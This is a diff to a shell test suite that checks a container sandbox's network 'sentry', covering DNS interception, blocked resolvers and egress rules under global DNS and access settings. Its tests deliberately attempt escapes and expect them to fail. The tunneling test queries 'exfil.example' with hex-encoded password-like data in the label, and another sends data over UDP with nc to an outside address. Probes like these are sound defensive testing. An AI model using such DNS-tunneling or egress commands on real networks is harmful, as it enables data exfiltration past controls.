@@ -17,6 +17,9 @@ M=$RBRN_MONIKER
 BOTTLE=rb-$M-bottle
 SENTRY_IP=$RBRN_ENCLAVE_SENTRY_IP
 ICPT=$RBRN_UPLINK_DNS_INTERCEPT
+DNS=$RBRN_UPLINK_DNS_ENABLED
+DNSG=$RBRN_UPLINK_DNS_GLOBAL
+ACCG=$RBRN_UPLINK_ACCESS_GLOBAL
 
 podman container exists "$BOTTLE" || { echo "ztest: $BOTTLE is not running: make bottle-start NAMEPLATE=$np" >&2; exit 1; }
 podman container exists "$WORLD" || { echo "ztest: the world is not running: make world-start" >&2; exit 1; }
@@ -54,17 +57,30 @@ ztest_bottle_dns_allow() {
 	expect_world dns-8.8.8.8.log "$TAG.anthropic.com"
 }
 
+# With intercept on, a query for a name that is not allowed sent to server
+# is answered by the sentry's policy (NXDOMAIN, or upstream's answer with
+# global DNS) and the server itself never sees it (8.8.8.8 is also the
+# sentry's upstream, so with global DNS it legitimately sees the sentry ask).
+expect_intercepted() {
+	local server=$1 name=$2 s
+	s=$(status @"$server" "$name")
+	if [ "$DNSG" = 1 ]; then
+		[ "$s" = NOERROR ] && ok "@$server $name answered via the sentry" || bad "@$server $name gave '$s'"
+		[ "$server" = 8.8.8.8 ] || expect_world_not "dns-$server.log" "$name"
+	else
+		[ "$s" = NXDOMAIN ] && ok "@$server $name intercepted: NXDOMAIN" || bad "@$server $name gave '$s'"
+		expect_world_not "dns-$server.log" "$name"
+	fi
+}
+
 ztest_bottle_dns_block() {
-	local a s
+	local a
 	if [ "$ICPT" = 1 ]; then
 		# Intercepted: the sentry answers by policy, the foreign server sees nothing.
-		a=$(answer @8.8.8.8 "$TAG-a.anthropic.com")
-		[ "$a" = 160.79.104.10 ] && ok "allowed name via 8.8.8.8 answered by the sentry" || bad "allowed name via 8.8.8.8 gave '$a'"
-		s=$(status @8.8.8.8 "$TAG.google.com")
-		[ "$s" = NXDOMAIN ] && ok "blocked name via 8.8.8.8 is NXDOMAIN" || bad "blocked name via 8.8.8.8 gave '$s'"
-		expect_world_not dns-8.8.8.8.log "$TAG.google.com"
-		s=$(status @1.1.1.1 "$TAG-c.anthropic.com")
-		expect_world_not dns-1.1.1.1.log "$TAG"
+		a=$(answer @1.1.1.1 "$TAG-a.anthropic.com")
+		[ "$a" = 160.79.104.10 ] && ok "allowed name via 1.1.1.1 answered by the sentry" || bad "allowed name via 1.1.1.1 gave '$a'"
+		expect_world_not dns-1.1.1.1.log "$TAG-a.anthropic.com"
+		expect_intercepted 8.8.8.8 "$TAG-b.google.com"
 	else
 		expect_fail "dig @8.8.8.8 anthropic.com" dig +time=2 +tries=1 @8.8.8.8 "$TAG-b.anthropic.com"
 		expect_fail "nc -w 2 -zv 8.8.8.8 53" nc -w 2 -zv 8.8.8.8 53
@@ -77,13 +93,12 @@ ztest_bottle_dns_block_direct_rule() {
 	# The seed's failing test: direct DNS to 8.8.8.8 must be stopped by the
 	# sentry's FORWARD (or intercepted by its PREROUTING), never reach 8.8.8.8.
 	if [ "$ICPT" = 1 ]; then
-		s=$(status @8.8.8.8 "$TAG-d.google.com")
-		[ "$s" = NXDOMAIN ] && ok "direct query intercepted (NXDOMAIN)" || bad "direct query gave '$s'"
+		expect_intercepted 8.8.8.8 "$TAG-d.google.com"
 	else
 		expect_fail "dig @8.8.8.8 anthropic.com" dig +time=2 +tries=1 @8.8.8.8 "$TAG-d.anthropic.com"
 		expect_fail "nc -w 2 -zv 8.8.8.8 53" nc -w 2 -zv 8.8.8.8 53
+		expect_world_not dns-8.8.8.8.log "$TAG-d."
 	fi
-	expect_world_not dns-8.8.8.8.log "$TAG-d."
 }
 
 ztest_bottle_tcp443_allow() {
@@ -105,10 +120,24 @@ ztest_bottle_tcp443_block() {
 	[ "$before" = "$after" ] && ok "world saw no connection to 198.51.100.7:443" || bad "world saw a connection to 198.51.100.7:443"
 }
 
+# What the sentry must answer for a name that is not allowed: NXDOMAIN,
+# locally; with DNS disabled, no answer at all.
+expect_local_nx() {
+	local what=$1 name=$2 s
+	s=$(status @"$SENTRY_IP" "$name")
+	if [ "$DNS" = 0 ]; then
+		[ -z "$s" ] || [ "$s" = NXDOMAIN ] || [ "$s" = REFUSED ] && ok "$what: no answer (DNS disabled)" || bad "$what gave '$s' with DNS disabled"
+	elif [ "$DNSG" = 1 ]; then
+		[ -n "$s" ] && ok "$what: answered by upstream (global DNS)" || bad "$what: no answer with global DNS"
+		return
+	else
+		[ "$s" = NXDOMAIN ] && ok "$what is NXDOMAIN" || bad "$what gave '$s'"
+	fi
+	expect_world_not dns-8.8.8.8.log "$name"
+}
+
 ztest_bottle_nonexistent() {
-	local s; s=$(status @"$SENTRY_IP" "$TAG-nx.example.invalid")
-	[ "$s" = NXDOMAIN ] && ok "unknown name is NXDOMAIN" || bad "unknown name gave '$s'"
-	expect_world_not dns-8.8.8.8.log "$TAG-nx.example.invalid"
+	expect_local_nx "unknown name" "$TAG-nx.example.invalid"
 }
 
 ztest_bottle_dns_tcp_udp() {
@@ -123,7 +152,7 @@ ztest_bottle_dns_tcp_udp() {
 ztest_bottle_altport() {
 	expect_fail "DNS to 8.8.8.8:5353" dig -p 5353 +time=2 +tries=1 @8.8.8.8 "$TAG-p.anthropic.com"
 	expect_fail "tcp 8.8.8.8:853 (DoT)" nc -w 2 -z 8.8.8.8 853
-	expect_fail "tcp 1.1.1.1:443 (DoH)" nc -w 2 -z 1.1.1.1 443
+	[ "$ACCG" = 1 ] || expect_fail "tcp 1.1.1.1:443 (DoH)" nc -w 2 -z 1.1.1.1 443
 	expect_world_not udp-5353.log "8.8.8.8:5353"
 	expect_world_not tcp-853.log "8.8.8.8:853"
 }
@@ -132,11 +161,11 @@ ztest_bottle_cloudflare_quad9() {
 	local r
 	for r in 1.1.1.1 9.9.9.9; do
 		if [ "$ICPT" = 1 ]; then
-			[ "$(status @$r "$TAG-q.google.com")" = NXDOMAIN ] && ok "@$r intercepted" || bad "@$r not intercepted"
+			expect_intercepted "$r" "$TAG-q.google.com"
 		else
 			expect_fail "dig @$r" dig +time=2 +tries=1 @$r "$TAG-q.anthropic.com"
+			expect_world_not "dns-$r.log" "$TAG-q."
 		fi
-		expect_world_not "dns-$r.log" "$TAG-q."
 	done
 }
 
@@ -159,17 +188,17 @@ ztest_bottle_multicast() {
 
 ztest_bottle_tunneling() {
 	# Data in the labels of a name that is not allowed must never leave.
-	local data=$TAG-6b7a7a79726f6f747061737377726f6f74
-	[ "$(status @"$SENTRY_IP" "$data.exfil.example")" = NXDOMAIN ] && ok "exfil name answered NXDOMAIN locally" || bad "exfil name not NXDOMAIN"
-	expect_world_not dns-8.8.8.8.log "$data"
+	expect_local_nx "exfil name" "$TAG-6b7a7a79726f6f747061737377726f6f74.exfil.example"
 	expect_fail "ICMP to 8.8.8.8" ping -c 1 -W 1 8.8.8.8
+	[ "$ACCG" = 1 ] && return
 	expect_fail "UDP to 198.51.100.7:5000 (unlisted, not DNS)" sh -c "echo $TAG | nc -u -w 1 198.51.100.7 5000 | grep -q world"
 	expect_world_not udp-5000.log "on AF=2 198.51.100.7:5000"
 }
 
 ztest_bottle_package_manager() {
+	[ "$ACCG" = 1 ] && [ "$DNSG" = 1 ] && { ok "global access and DNS: package manager allowed by policy"; return; }
 	expect_fail "curl http://deb.debian.org/" curl -sS --max-time 3 -o /dev/null http://deb.debian.org/
-	expect_fail "curl http://93.184.216.34/ by address" curl -sS --max-time 3 -o /dev/null http://93.184.216.34/
+	[ "$ACCG" = 1 ] || expect_fail "curl http://93.184.216.34/ by address" curl -sS --max-time 3 -o /dev/null http://93.184.216.34/
 	expect_world_not dns-8.8.8.8.log "deb.debian.org"
 }
 
